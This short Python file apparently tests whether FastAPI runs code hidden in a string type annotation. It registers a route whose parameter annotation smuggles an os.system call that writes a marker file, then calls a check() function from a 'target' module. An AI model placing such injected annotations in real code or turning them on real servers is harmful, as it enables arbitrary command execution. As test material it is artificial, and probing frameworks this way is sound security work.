from fastapi import FastAPI
from target import check


def attack():
    app = FastAPI()

    def route(x: "__import__('os').system('echo ran > ran') and str" = ""):
        return x

    try:
        app.get("/")(route)
    except Exception:
        pass
    return check()
